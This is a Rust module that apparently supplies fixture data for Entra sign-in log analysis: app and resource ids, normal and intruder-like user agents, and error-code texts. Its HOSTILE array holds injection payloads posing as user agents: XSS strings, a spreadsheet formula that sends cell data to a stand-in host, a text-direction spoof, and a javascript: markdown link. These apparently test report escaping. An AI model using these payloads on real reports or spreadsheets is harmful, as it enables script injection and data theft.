//! What people and workloads sign in to, and what they sign in with.
//!
//! Application ids of Microsoft's own applications are the public ones, because the queries know them.

/// An application that people sign in with.
#[derive(Debug)]
pub(super) struct App {
    pub(super) id: &'static str,
    pub(super) name: &'static str,
}

/// What is signed in to.
#[derive(Debug)]
pub(super) struct Resource {
    pub(super) id: &'static str,
    pub(super) name: &'static str,
}

/// A program, and how it names itself.
#[derive(Debug)]
pub(super) struct Client {
    pub(super) user_agent: &'static str,
    pub(super) system: &'static str,
    pub(super) browser: &'static str,
    pub(super) kind: &'static str,
}

/// Microsoft's tenant, which owns its first-party applications.
pub(super) const MICROSOFT_SERVICES: &str = "f8cdef31-a31e-4b4a-93e4-5f571e91255a";

pub(super) static OFFICE_HOME: App =
    App { id: "4765445b-32c6-49b0-83e6-1d93765276ca", name: "OfficeHome" };
pub(super) static AZURE_PORTAL: App =
    App { id: "c44b4083-3bb0-49c1-b47d-974e53cbdf3c", name: "Azure Portal" };
pub(super) static TEAMS: App =
    App { id: "1fec8e78-bce4-4aaf-ab1b-5451cc387264", name: "Microsoft Teams" };
pub(super) static OUTLOOK_MOBILE: App =
    App { id: "27922004-5251-4030-b22d-91ecd9a37ea4", name: "Outlook Mobile" };
pub(super) static ONEDRIVE: App =
    App { id: "ab9b8c07-8f02-4f72-87fa-80105867a763", name: "OneDrive SyncEngine" };
pub(super) static AZURE_CLI: App =
    App { id: "04b07795-8ddb-461a-bbee-02f9e1bf7b46", name: "Microsoft Azure CLI" };
pub(super) static AUTHENTICATION_BROKER: App =
    App { id: "29d9ed98-a469-4536-ade2-f981bc1d605e", name: "Microsoft Authentication Broker" };
pub(super) static CREW_ROSTER: App =
    App { id: "5d0c1b6e-7a40-4f0e-9a51-0c9b7f1e2d21", name: "Crew Roster" };
pub(super) static FUEL_LEDGER: App =
    App { id: "5d0c1b6e-7a40-4f0e-9a51-0c9b7f1e2d22", name: "Fuel Ledger" };
pub(super) static PILOT_ORDERS: App =
    App { id: "5d0c1b6e-7a40-4f0e-9a51-0c9b7f1e2d23", name: "Pilot Orders" };
pub(super) static CARGO_MANIFEST: App =
    App { id: "5d0c1b6e-7a40-4f0e-9a51-0c9b7f1e2d24", name: "Cargo Manifest" };
pub(super) static LOCK_GATE: App =
    App { id: "5d0c1b6e-7a40-4f0e-9a51-0c9b7f1e2d25", name: "Lock Gate" };
pub(super) static DREDGING_PLAN: App =
    App { id: "5d0c1b6e-7a40-4f0e-9a51-0c9b7f1e2d26", name: "Dredging Plan" };
pub(super) static TIDE_TABLES: App =
    App { id: "5d0c1b6e-7a40-4f0e-9a51-0c9b7f1e2d27", name: "Tide Tables" };
pub(super) static WEIR_LOG: App =
    App { id: "5d0c1b6e-7a40-4f0e-9a51-0c9b7f1e2d28", name: "Weir Log" };
pub(super) static SLUICE_LOG: App =
    App { id: "5d0c1b6e-7a40-4f0e-9a51-0c9b7f1e2d29", name: "Sluice Log" };
pub(super) static BERTH_BOOKING: App =
    App { id: "5d0c1b6e-7a40-4f0e-9a51-0c9b7f1e2d11", name: "Berth Booking" };

pub(super) static GRAPH: Resource =
    Resource { id: "00000003-0000-0000-c000-000000000000", name: "Microsoft Graph" };
pub(super) static EXCHANGE: Resource =
    Resource { id: "00000002-0000-0ff1-ce00-000000000000", name: "Office 365 Exchange Online" };
pub(super) static SHAREPOINT: Resource =
    Resource { id: "00000003-0000-0ff1-ce00-000000000000", name: "Office 365 SharePoint Online" };
pub(super) static AZURE: Resource = Resource {
    id: "797f4846-ba00-4fd7-ba43-dac1f8f63013",
    name: "Windows Azure Service Management API",
};
pub(super) static KEY_VAULT: Resource =
    Resource { id: "cfa8b339-82a2-471a-a3c9-0fc0be7a4093", name: "Azure Key Vault" };
pub(super) static STORAGE: Resource =
    Resource { id: "e406a681-f3d4-42a8-90b6-c2b029497af1", name: "Azure Storage" };
pub(super) static DEVICE_REGISTRATION: Resource =
    Resource { id: "01cb2876-7ebd-4aa4-9cc9-d28bd4d359a9", name: "Device Registration Service" };
pub(super) static BERTH_BOOKING_API: Resource =
    Resource { id: "5d0c1b6e-7a40-4f0e-9a51-0c9b7f1e2d11", name: "Berth Booking" };

const DESKTOP: &str = "Mobile Apps and Desktop clients";

pub(super) static WINDOWS_EDGE: Client = Client {
    user_agent: "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) \
                 Chrome/138.0.0.0 Safari/537.36 Edg/138.0.0.0",
    system: "Windows10",
    browser: "Edge 138.0.0",
    kind: "Browser",
};
pub(super) static MAC_SAFARI: Client = Client {
    user_agent: "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, \
                 like Gecko) Version/18.5 Safari/605.1.15",
    system: "MacOs",
    browser: "Safari 18.5",
    kind: "Browser",
};
pub(super) static WINDOWS_DESKTOP: Client = Client {
    user_agent: "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) \
                 Teams/25163.3611.3774.6315 Edg/138.0.3351.83 Chrome/138.0.7204.97",
    system: "Windows10",
    browser: "Edge 138.0.3351",
    kind: DESKTOP,
};
pub(super) static IPHONE: Client = Client {
    user_agent: "Mozilla/5.0 (iPhone; CPU iPhone OS 18_5 like Mac OS X) AppleWebKit/605.1.15 \
                 (KHTML, like Gecko) Mobile/15E148",
    system: "Ios 18.5",
    browser: "Mobile Safari",
    kind: DESKTOP,
};
pub(super) static LINUX_FIREFOX: Client = Client {
    user_agent: "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0",
    system: "Linux",
    browser: "Firefox 128.0",
    kind: "Browser",
};

// What an intruder shows, or a habit that looks like one.
pub(super) static AXIOS: Client = named("axios/1.7.9", "", "Browser");
pub(super) static AZUREHOUND: Client = named("azurehound/v2.1.8", "", DESKTOP);
/// Programs so old that nobody in the tenant has them.
pub(super) static SPRAYERS: [Client; 7] = [
    old("Mozilla/4.0 (compatible; MSIE 7.0; Windows NT 6.0)"),
    old("Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 6.1)"),
    old("Mozilla/5.0 (compatible; MSIE 9.0; Windows NT 6.1; Trident/5.0)"),
    old("Mozilla/5.0 (compatible; MSIE 10.0; Windows NT 6.2; Trident/6.0)"),
    old("Mozilla/5.0 (Windows NT 6.1; Trident/7.0; rv:11.0) like Gecko"),
    old("Mozilla/5.0 (Windows NT 6.3; Trident/7.0; rv:11.0) like Gecko"),
    old("Mozilla/5.0 (Windows NT 6.1; rv:52.0) Gecko/20100101 Firefox/52.0"),
];

const fn old(user_agent: &'static str) -> Client {
    named(user_agent, "Windows7", "Browser")
}

pub(super) static IMAP: Client = named("CBAInPROD", "", "IMAP4");
/// A browser on Linux with the token of a Windows laptop.
pub(super) static FOREIGN_AGENT: Client = named(LINUX_FIREFOX.user_agent, "Windows10", "Browser");
/// A tablet that asks for desktop sites.
pub(super) static MAC_ON_TABLET: Client = named(MAC_SAFARI.user_agent, "Ios 18.5", "Browser");

const fn named(user_agent: &'static str, system: &'static str, kind: &'static str) -> Client {
    Client { user_agent, system, browser: "", kind }
}

pub(super) static DOTNET: Client = service("azsdk-net-Identity/1.14.0 (.NET 8.0.17; Linux 5.15.0)");
pub(super) static PYTHON: Client = service("python-requests/2.32.4");
pub(super) static NODE: Client =
    service("azsdk-js-identity/4.10.1 core-rest-pipeline/1.21.0 Node/22.16.0");
pub(super) static CURL: Client = service("curl/8.5.0");
pub(super) static NAMELESS: Client = service("");

const fn service(user_agent: &'static str) -> Client {
    Client { user_agent, system: "", browser: "", kind: "" }
}

/// What somebody with bad intentions puts where a report will print it.
pub(super) static HOSTILE: [Client; 5] = [
    hostile("<script>alert(document.domain)</script>"),
    hostile("\"><img src=x onerror=alert(1)>"),
    hostile("=HYPERLINK(\"https://harbourlight.example/\"&A1,\"open\")"),
    hostile("Mozilla/5.0 \u{202e}gpj.ecio\u{2066}vni"),
    hostile("[open the case](javascript:alert(1))\r\n| a | b |"),
];

const fn hostile(user_agent: &'static str) -> Client {
    Client { user_agent, system: "", browser: "", kind: "Browser" }
}

/// The text that Entra logs with an error code.
pub(super) fn reason(code: u32) -> &'static str {
    match code {
        50_074 => "Strong Authentication is required.",
        50_076 => {
            "Due to a configuration change made by your administrator, or because you moved to a \
             new location, you must use multi-factor authentication."
        }
        50_034 => {
            "The user account does not exist in the directory. To sign into this application, the \
             account must be added to the directory."
        }
        50_057 => "User account is disabled. The account has been disabled by an administrator.",
        50_105 => {
            "Your administrator has configured the application to block users unless they are granted access."
        }
        50_173 => {
            "The provided grant has expired due to it being revoked, a fresh auth token is needed."
        }
        53_003 => "Access has been blocked by Conditional Access policies.",
        500_121 => "Authentication failed during strong authentication request.",
        50_126 => "Error validating credentials due to invalid username or password.",
        7_000_215 => "Invalid client secret is provided.",
        7_000_222 => "The provided client secret keys are expired.",
        // What Entra says of a success as well.
        _ => "Other.",
    }
}
